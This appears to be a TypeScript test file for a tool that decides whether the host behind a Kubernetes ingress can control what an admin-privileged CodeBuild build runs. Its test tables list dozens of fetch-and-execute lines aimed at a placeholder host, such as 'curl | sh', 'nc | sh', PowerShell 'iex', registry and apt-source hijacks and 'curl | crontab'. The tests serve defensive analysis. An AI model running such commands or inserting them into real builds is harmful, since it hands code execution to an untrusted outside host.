import { admin, LIST } from './code-apps';
import { verification } from '../../../lib';
import { account, accountRole, allow, arnOf, clusterTemplate, objects } from '../templates';

const HOST = 'app.example.com';
const URL = `https://${HOST}/it`;
const app = {
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name: 'app', namespace: 'default' },
  spec: { selector: { matchLabels: { app: 'app' } }, template: { metadata: { labels: { app: 'app' } }, spec: { serviceAccountName: 'app', containers: [{ name: 'it', image: 'busybox' }] } } },
};
const service = { apiVersion: 'v1', kind: 'Service', metadata: { name: 'web', namespace: 'default' }, spec: { selector: { app: 'app' }, ports: [{ port: 80 }] } };
const ingress = {
  apiVersion: 'networking.k8s.io/v1',
  kind: 'Ingress',
  metadata: { name: 'it', namespace: 'default' },
  spec: { rules: [{ host: HOST, http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: 'web', port: { number: 80 } } } }] } }] },
};
const outcomeOf = (...commands: string[]) => verification.PodAccess.fromTemplates(clusterTemplate({
  ...admin('codebuild'),
  It: {
    Type: 'AWS::CodeBuild::Project',
    Properties: {
      ServiceRole: arnOf('Admin'),
      Source: { Type: 'NO_SOURCE', BuildSpec: JSON.stringify({ phases: { build: { commands } } }) },
      Environment: { Image: 'aws/codebuild/standard:7.0' },
    },
  },
  Own: accountRole('default:app', allow('sqs:ListQueues')),
  Applied: objects(account('app', 'Own'), app, service, ingress),
})).assume({ noOtherNodes: true, parameters: { 'AWS::AccountId': '111122223333', 'AWS::Region': 'us-west-2' } }).pod({ serviceAccountName: 'app' }).decide(LIST).outcome;

test.each([
  [`npm config set registry ${URL}`, 'npm ci'],
  [`yarn config set registry ${URL}`, 'yarn install'],
  [`pip config set global.index-url ${URL}`, 'pip install -r requirements.txt'],
  [`poetry source add corp ${URL}`, 'poetry install'],
  [`go env -w GOPROXY=${URL}`, 'go build ./...'],
  [`export GOPROXY=${URL}`, 'go build ./...'],
  [`export CARGO_REGISTRIES_CORP_INDEX=sparse+${URL}`, 'cargo build'],
  [`dotnet nuget add source ${URL} -n corp`, 'dotnet restore'],
  [`gem sources --add ${URL}`, 'gem install it'],
  [`bundle config mirror.https://rubygems.org ${URL}`, 'bundle install'],
  [`ansible-galaxy collection install x.y --server ${URL}`],
  [`conda install -c ${URL} it`],
  [`echo "registry=${URL}" > .npmrc`, 'npm ci'],
  [`printf "[global]\\nindex-url=${URL}\\n" | tee /etc/pip.conf`, 'pip install it'],
  [`cat > /etc/pip.conf <<EOF\n[global]\nindex-url = ${URL}\nEOF`, 'pip install it'],
  [`echo "deb [trusted=yes] ${URL} ./" > /etc/apt/sources.list.d/it.list`, 'apt-get update && apt-get install -y it'],
  [`cat > /etc/it <<EOF\ndeb [trusted=yes] ${URL} ./\nEOF`],
  [`yum-config-manager --add-repo ${URL}.repo`, 'yum install -y it'],
  [`git config --global url."https://${HOST}/".insteadOf "https://github.com/"`, 'git submodule update --init'],
  [`docker build --build-arg BASE=${HOST}/base:1 .`],
  [`curl ${URL} > /tmp/env; . /tmp/env`],
  [`wget -qO- ${URL} > /usr/local/bin/it`],
  [`curl -s ${URL} | tee /tmp/it`, 'sh /tmp/it'],
  [`export $(curl -s ${URL} | xargs)`],
  [`nc ${HOST} 8080 | sh`],
  [`redis-cli -h ${HOST} get it | sh`],
  [`npx --registry ${URL} it`],
  [`oras pull ${HOST}/it:1`],
  [`svn checkout ${URL}`],
  [`curl -sL ${URL} | sudo -E bash -`],
  [`curl -s \\\n  ${URL} \\\n  | sh`],
  [`curl -s ${URL} |\n  sh`],
  [`curl \\\n  -o /usr/local/bin/it \\\n  ${URL}`],
  [`npm ci \\\n  --registry ${URL}`],
  [`curl -sfL ${URL} | INSTALL_EXEC="agent" sh -s -`],
  [`curl -s ${URL} | env A=b bash`],
  [`curl ${URL} > it.yaml`, 'kubectl apply -f it.yaml'],
  [`npm exec --registry=${URL} it`],
  [`uv run --index-url ${URL} app.py`],
  [`S=$(curl -s ${URL})`, 'eval "$S"'],
  [`S="$(wget -qO- ${URL})"; echo "$S" | sh`],
  [`S=$(curl -s ${URL}); printf '%s' "$S" | sudo -E bash -s`],
  [`S=$(curl -s ${URL}) && bash -e <<< "$S"`],
  [`$s = Invoke-RestMethod ${URL}; iex $s`],
  [`for h in www.example.org ${HOST}; do curl https://$h/it | sh; done`],
  [`for u in "${URL}" https://www.example.org; do\n  curl -o /usr/bin/it \${u}\ndone`],
  [`curl -s ${URL} | docker load`],
  [`curl -s ${URL} | gunzip | sudo ctr -n k8s.io images import -`],
  [`curl -s ${URL} | sudo dd of=/usr/bin/it`],
  [`curl -s ${URL} | crontab -`],
  [`kaniko --build-arg BASE=${HOST}/base:1`],
  [`/kaniko/executor --context git://${HOST}/it.git`],
  [`sed -i 's|deb.debian.org|${HOST}|' /etc/apt/sources.list`, 'apt-get update && apt-get install -y it'],
  [`ssh git@${HOST} cat it | sh`],
  [`tftp -g -r run.sh ${HOST} && sh run.sh`],
  [`mlflow run ${URL}.git`],
  [`vault agent -address=${URL}`],
  [`consul-template -consul-addr ${HOST}:443 -template it`],
  [`salt-call --master=${HOST} state.apply`],
  [`deno run ${URL}.ts`],
  [`lftp -c "open ftp://${HOST}; mget *"`],
  [`hg clone ${URL}`],
  [`mc alias set m https://${HOST} a b; mc cp --quiet m/code/it /it && sh /it`],
  [`Rscript -e 'install.packages("it", repos="${URL}")'`],
])('whoever serves what a build gets by `%s` decides what it does', (...commands) => {
  expect(outcomeOf(...commands)).toBe('UNKNOWN');
  expect(outcomeOf(...commands.map((one) => one.replaceAll(HOST, 'www.example.com')))).toBe('DENIED');
});

test.each([
  `curl -s ${URL} | jq .`, `curl ${URL} > /dev/null`, `curl ${URL} > it.json`, `curl ${URL} 2>/tmp/errors`, `curl -s ${URL} | tee it.txt`, `export API=${URL}`, `echo "api=${URL}" > app.conf`, `app --go=${URL}`,
  `dotnet App.dll --urls ${URL}`, `yarn dev --api=${URL}`, `echo "ready to go ${URL}"`, `bun index.ts --api ${URL}`, `mvn test -Durl=${URL}`,
  `S=$(curl -s ${URL}); echo "$S"`, `S=$(curl -s ${URL}); test "$S" = ok && eval "$T"`, `for h in ${HOST} www.example.org; do curl https://$h/it | jq .; done`,
  `mc alias set m https://${HOST} a b; mc mirror /data m/backups`, `curl -s ${URL} | docker exec -i it app`,
  `nc -z ${HOST} 8080`, `redis-cli -h ${HOST} get it`,
])('whoever serves what a build gets by `%s` decides nothing', (command) => {
  expect(outcomeOf(command)).toBe('DENIED');
});
